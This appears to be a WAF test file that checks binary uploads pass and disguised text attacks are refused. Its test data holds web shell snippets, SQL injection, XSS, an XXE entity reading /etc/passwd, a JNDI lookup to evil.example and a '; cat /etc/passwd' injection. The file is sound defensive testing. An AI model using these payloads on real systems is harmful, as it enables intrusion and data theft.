// Files that are no text: by chance their bytes hold every short token there is, and no interpreter of text reads them.

import { assert, property, string } from 'fast-check'
import { describe, expect, test } from 'vitest'

import { bodyOf } from '../../shared/exchange/body.ts'
import { formatOf } from '../../shared/waf/fields/format.ts'
import { isBinary } from '../../shared/waf/fields/binary.ts'
import { coreEngine } from '../corpora/program.ts'
import { randomOf } from '../corpora/random.ts'

const engine = coreEngine()
const utf8 = new TextEncoder()

const joined = (...pieces: readonly (string | Uint8Array)[]): Uint8Array =>
  new Uint8Array(pieces.flatMap((piece) => [...(typeof piece === 'string' ? utf8.encode(piece) : piece)]))

const judged = (type: string, bytes: Uint8Array) => {
  const body = bodyOf(bytes, type)
  return engine.body(body, body.text, type, false)
}

const part = (disposition: string, type: string, content: Uint8Array) =>
  judged(
    'multipart/form-data; boundary=B7',
    joined(
      `--B7\r\nContent-Disposition: form-data; name="file"; ${disposition}\r\nContent-Type: ${type}\r\n\r\n`,
      content,
      '\r\n--B7--\r\n',
    ),
  )

const uploaded = (name: string, content: Uint8Array) =>
  part(`filename="${name}"`, 'application/octet-stream', content)

const HEADS: Readonly<Record<string, string | Uint8Array>> = {
  png: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]),
  jpg: new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0]),
  gif: joined('GIF89a', new Uint8Array([1, 0, 1, 0])),
  pdf: '%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n',
  zip: joined('PK', new Uint8Array([3, 4, 20, 0])),
  woff2: joined('wOF2', new Uint8Array([0, 1, 0, 0])),
}

const noise = (seed: number, bytes: number): Uint8Array => {
  const random = randomOf(seed)
  return Uint8Array.from({ length: bytes }, () => random.below(256))
}

describe.each(Object.entries(HEADS))('%s', (extension, head) => {
  test('passes as an upload and as a body, whatever its bytes are', () => {
    let refused = 0
    for (let seed = 0; seed < 40; seed++) {
      const file = joined(head, noise(seed, 20_000))
      if (uploaded(`scan ${seed}.${extension}`, file).refused) refused++
      if (judged('application/octet-stream', file).refused) refused++
    }
    expect(refused).toBe(0)
  })

  test.each(['<?php system($_GET[0]);', '<?PHP\n@eval($_POST["x"]);', '<?=`$_GET[0]`;//'])(
    'is refused with %s within it',
    (script) => {
      const file = joined(head, noise(7, 5000), script, noise(8, 300))
      expect(uploaded(`a.${extension}`, file).refused).toBe(true)
    },
  )
})

const decode = (bytes: readonly number[]): string => new TextDecoder().decode(new Uint8Array(bytes))

describe('what is text is judged as text', () => {
  test.each([
    ['a script without a head', "' union select 1,2,3 from users-- "],
    ['a page', '\ufeff  <html><script>alert(document.cookie)</script>'],
    ['a page behind a NUL', '\0<script>alert(document.cookie)</script>'],
    ['a page with a control character in it', '<svg onload=alert(1)>\u0001\u0002'],
  ])('%s', (_, text) => {
    expect(isBinary(text)).toBe(false)
    expect(uploaded('a.txt', utf8.encode(text)).refused).toBe(true)
  })

  test('markup in UTF-16 is no binary, with and without a mark', () => {
    expect(isBinary(decode([0xff, 0xfe, 0x3c, 0, 0x21, 0, 0x44, 0]))).toBe(false)
    expect(isBinary(decode([0xfe, 0xff, 0, 0x3c, 0, 0x21, 0, 0x44]))).toBe(false)
    expect(isBinary(decode([0x3c, 0, 0x21, 0]))).toBe(false)
    expect(isBinary(decode([0, 0x3c, 0, 0x21]))).toBe(false)
  })

  test('no text of printed characters, tabs and line breaks is binary, save a PDF', () => {
    assert(
      property(string({ unit: 'grapheme' }), (text) => {
        const printed = Array.from(text).filter((one) => one >= ' ' || '\t\n\r\f\u001b'.includes(one))
        expect(isBinary(printed.join(''))).toBe(text.startsWith('%PDF-'))
      }),
    )
  })
})

test.each([
  ['application/pdf', 'binary'],
  ['application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'binary'],
  ['application/zip', 'binary'],
  ['image/svg+xml', 'xml'],
  ['application/csp-report', 'json'],
  ['application/x-amz-json-1.1', 'json'],
  ['application/javascript', 'text'],
  ['application/x-httpd-php', 'text'],
])('%s is taken apart as %s', (type, format) => {
  expect(formatOf(type, '')).toBe(format)
})

const ATTACKS: readonly string[] = [
  "1' UNION SELECT password FROM users-- -",
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  '{"id": "1\' or \'1\'=\'1"}',
  "z=1&id=1' union select null,version()-- -",
  'a,b\n1;cat /etc/passwd;\n',
  '${jndi:ldap://evil.example/a}',
]

/** What a client may write, and what still is no proof that the content is no text. */
describe('a control character makes no file of a text', () => {
  test.each([
    ['a name that Go takes for none', 'filename=""', 'image/png'],
    ['a name that PHP does not know', "filename*=utf-8''a.png", 'image/png'],
    ['one empty name of two', 'filename="a.png"; filename=""', 'image/png'],
    ['a name of a text', 'filename="a.svg"', 'image/png'],
    ['a name of a text behind another', 'filename="a.svg.png"', 'image/png'],
    ['a type of a text', 'filename="a.png"', 'text/html; charset=utf-8'],
    ['a type of data', 'filename="a.png"', 'application/json'],
    ['no signature', 'filename="a.png"', 'image/png'],
    ['names that differ', 'filename="a.png"; filename*=utf-8\'\'a.xml', 'image/png'],
  ])('%s', (_, disposition, type) => {
    for (const attack of ATTACKS)
      for (const content of [`\u0001${attack}`, `${attack}\u0001`])
        expect(part(disposition, type, utf8.encode(content)).refused, content).toBe(true)
  })

  test.each(['png', 'gif', 'zip', 'pdf'])("%s's signature is none under a text's name or type", (format) => {
    for (const attack of ATTACKS) {
      const content = joined(HEADS[format] ?? '', '\u0001\u0002\n', attack)
      expect(part('filename="a.csv"', 'image/png', content).refused, attack).toBe(true)
      expect(part('filename="a.png"', 'text/plain', content).refused, attack).toBe(true)
      expect(part('filename=""', 'image/png', content).refused, attack).toBe(true)
    }
  })

  test.each([
    'application/octet-stream',
    'application/pdf',
    'application/zip',
    'image/png',
    'application/x-protobuf',
    'application/grpc',
    'application/msgpack',
  ])('a whole body that says it is %s', (type) => {
    for (const attack of ATTACKS)
      expect(judged(type, utf8.encode(`\u0001\u0002${attack}`)).refused, attack).toBe(true)
  })

  test('a whole body that says nothing of its kind', () => {
    for (const attack of ATTACKS)
      for (const content of [`\u0001${attack}`, `${attack}\u0001`])
        expect(judged('', utf8.encode(content)).refused, content).toBe(true)
  })

  test('a short string of a message', () => {
    const message = joined(new Uint8Array([8, 150, 1, 0x12, 8]), "1'or 1=1", new Uint8Array([0x18, 1]))
    expect(judged('application/x-protobuf', message).refused).toBe(true)
  })

  test.each(['; cat /etc/passwd', "1'or 1=1#"])('a short text of no name and no type: %s', (attack) => {
    for (const content of [`\u0001${attack}`, `${attack}\n\u0001`]) {
      expect(part('filename="x"', 'application/x-own', utf8.encode(content)).refused, content).toBe(true)
      expect(judged('application/octet-stream', utf8.encode(content)).refused, content).toBe(true)
    }
  })

  test('a blank that only a database knows', () => {
    const content = "\u00011'\u0001union\u0001select\u0001password\u0001from\u0001users--"
    expect(judged('application/octet-stream', utf8.encode(content)).refused).toBe(true)
  })
})

test('bytes of no stated kind pass as often as those of an unknown one', () => {
  let refused = 0
  for (let seed = 0; seed < 200; seed++) if (judged('', joined('6', noise(seed, 460))).refused) refused++
  expect(refused).toBeLessThanOrEqual(1)
})

test('bytes of an unknown kind pass, but for what is written in them', () => {
  let refused = 0
  for (let seed = 0; seed < 40; seed++)
    if (uploaded('a.dat', joined('\u0001', noise(seed, 10_000))).refused) refused++
  // Twenty printed characters in a row, and a filter among them.
  expect(refused).toBeLessThanOrEqual(1)
})

test.each([
  '${jndi:ldap://evil.example/a}',
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
])("in a document's properties: %s", (text) => {
  for (const [extension, head] of Object.entries(HEADS))
    expect(uploaded(`a.${extension}`, joined(head, noise(3, 400), text, noise(4, 400))).refused).toBe(true)
})
